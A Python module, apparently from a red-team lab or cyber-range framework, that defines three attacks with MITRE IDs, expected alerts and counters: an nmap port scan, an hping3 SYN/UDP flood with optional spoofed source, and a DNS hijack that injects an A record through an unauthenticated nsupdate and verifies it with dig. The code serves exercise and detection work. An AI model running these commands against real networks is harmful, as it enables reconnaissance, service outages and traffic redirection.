"""The published method's means against the network itself: scan, flood, and answers put into a name server."""

from __future__ import annotations

import re

from labs.scenario import Stage
from labs.services.names import ZONE

from .base import Exchange, Means, Observable, Pace, Receipt, Red, Tool
from .kit import (
    IMPACT,
    RECONNAISSANCE,
    Bounds,
    exchange,
    goes_over,
    hand,
    number,
    observable,
    obtained,
    over,
    port_of,
    receipt,
    word,
)

OPEN = re.compile(r"(\d+)/open/")
SERVED = re.compile(r"served (\d+) of (\d+)")
NAME = f"intranet.{ZONE}"
SCAN_ALERT_EVERY, FLOOD_ALERT_EVERY = 60, 300
UDP, TCP = 17, 6


class PortScan(Means):
    """nmap asks the ports of one host; it succeeds when it learns of an open one.

    Parameters: ``ports`` (1 up to that one), ``rate`` (ports/s).
    """

    id = "port-scan"
    about = "Ports of a host asked one after the other (nmap)"
    tactic = RECONNAISSANCE
    technique = "T1595.001"
    tools = (Tool(program="nmap", package="nmap"),)
    paces = (Pace("rate", 500, 100),)

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """To any port: filters of one port do not stop it."""
        return (exchange(stage, stage.port, patience_s=Bounds.SECONDS),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """An alert for every `SCAN_ALERT_EVERY` unusual ports."""
        count = max(1, number(stage, "ports", 1000, Bounds.PORTS) // SCAN_ALERT_EVERY)
        techniques = ("T1595.001", "T1046")
        return (
            observable(9001001, "attempted-recon", self.technique, techniques=techniques, handshake=False, count=count),
        )

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `Bounds.PORTS` ports at ``rate`` a second, and the stage's own port among them."""
        started = red.clock_s()
        ports = f"1-{number(stage, 'ports', 1000, Bounds.PORTS)}" + (f",{stage.port}" if stage.port else "")
        rate = str(number(stage, "rate", 500, Bounds.PACKETS_PER_S))
        # an implant on a host has no raw sockets: it connects
        kind = "-sS" if stage.source_host is None else "-sT"
        argv = ["nmap", kind, "-n", "-Pn", "--max-retries", "1", "--min-rate", rate, "--max-rate", rate]
        argv += ["--host-timeout", f"{Bounds.SECONDS:g}s", "-p", ports, "-oG", "-", str(stage.target)]
        done = red.run(argv, timeout_s=Bounds.SECONDS + 2)
        found = OPEN.findall(done.stdout)
        return receipt(red, stage, started, measured=bool(found), detail=f"open: {', '.join(found) or 'none'}")


class DosFlood(Means):
    """hping3 floods one port; it succeeds when half of the attacker's own fair tries beside it fail.

    Parameters: ``kind`` (syn, udp), ``rate`` (packets/s), ``seconds``, ``spoof`` (a source address; none: the own one).
    """

    id = "dos-flood"
    about = "A flood of SYN or UDP packets until a service answers nobody (hping3)"
    tactic = IMPACT
    technique = "T1498.001"
    service_kinds = ("http", "dns")
    tools = (Tool(program="hping3", package="hping3"), Tool(program="nft", package="nftables"))
    countered_by = ("harden_kernel", "close_port")  # a stopped server still shakes hands

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """One way is enough; a rate limit below the flood's rate starves it."""
        rate = number(stage, "rate", 1000, Bounds.PACKETS_PER_S) * 60
        protocol = UDP if self._kind(stage) == "udp" else TCP
        patience = float(self._seconds(stage))
        more = {"bytes_needed": rate * 2, "bytes_per_s": rate, "patience_s": patience}
        return (exchange(stage, port_of(stage, 80), protocol=protocol, two_way=False, **more),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """An alert for every `FLOOD_ALERT_EVERY` packets."""
        rate = number(stage, "rate", 1000, Bounds.PACKETS_PER_S)
        count = max(1, rate * self._seconds(stage) // FLOOD_ALERT_EVERY)
        sid = 9001003 if self._kind(stage) == "udp" else 9001002
        techniques = ("T1498.001", "T1499.001")
        return (observable(sid, "attempted-dos", self.technique, techniques=techniques, handshake=False, count=count),)

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `Bounds.PACKETS_PER_S` for `Bounds.SECONDS`."""
        started = red.clock_s()
        rate, seconds = number(stage, "rate", 1000, Bounds.PACKETS_PER_S), self._seconds(stage)
        spoof = [word(stage, "spoof", "")] if "spoof" in stage.params else []
        target = (self._kind(stage), str(stage.target), str(port_of(stage, 80)))
        done = hand(red, "flood", *target, str(rate), str(seconds), *spoof, timeout_s=Bounds.SECONDS + 5)
        said = SERVED.search(done.stdout)
        served, tries = (int(said[1]), int(said[2])) if said else (0, 0)
        detail = done.stdout + done.stderr
        return receipt(red, stage, started, measured=tries > 0 and served * 2 <= tries, detail=detail)

    @staticmethod
    def _kind(stage: Stage) -> str:
        return "udp" if word(stage, "kind", stage.protocol) == "udp" else "syn"

    @staticmethod
    def _seconds(stage: Stage) -> int:
        return number(stage, "seconds", 6, int(Bounds.SECONDS))


class DnsHijack(Means):
    """A name server takes an update from a stranger: the name then leads to the attacker (nsupdate, dig)."""

    id = "dns-hijack"
    about = "A name is pointed at the attacker by an unauthenticated dynamic update"
    tactic = IMPACT
    technique = "T1565.002"
    service_kinds = ("dns",)
    tools = (Tool(program="nsupdate", package="bind9-dnsutils"), Tool(program="dig", package="bind9-dnsutils"))
    countered_by = ("patch_vulnerability", "close_port", "stop_process", "dns_sinkhole")
    asks = NAME

    def otherwise(self, stage: Stage) -> Stage:
        """Over TCP."""
        return over(stage, "tcp")

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """The update and two questions, over UDP; a retry comes over TCP."""
        return (exchange(stage, port_of(stage, 53), protocol=TCP if goes_over(stage, "tcp") else UDP),)

    def observables(self, stage: Stage) -> tuple[Observable, ...]:
        """Its own rule, once."""
        techniques = ("T1557", "T1565.002")
        return (observable(9001004, "attempted-admin", self.technique, techniques=techniques, app_protocol="dns"),)

    def run(self, red: Red, stage: Stage) -> Receipt:
        """Update the name, and see where it leads now."""
        started = red.clock_s()
        server, port, mine = str(stage.target), str(port_of(stage, 53)), str(red.address())
        lines = (f"server {server} {port}", f"zone {ZONE}.", f"update add {NAME}. 60 A {mine}", "send")
        tcp = goes_over(stage, "tcp")
        say = ["nsupdate", "-t", "4", "-r", "1", "-u", "2", *(["-v"] if tcp else [])]
        told = red.run(say, timeout_s=8, stdin="\n".join(lines) + "\n")
        ask = ["dig", f"@{server}", "-p", port, "+short", "+time=2", "+tries=1", *(["+tcp"] if tcp else []), NAME]
        where = red.run([*ask, "A"], timeout_s=6).stdout
        text = red.run([*ask, "TXT"], timeout_s=6).stdout if mine in where else ""
        detail = f"{told.stderr} {where} {text}"
        return receipt(red, stage, started, canary=obtained(red, stage, text), detail=detail)
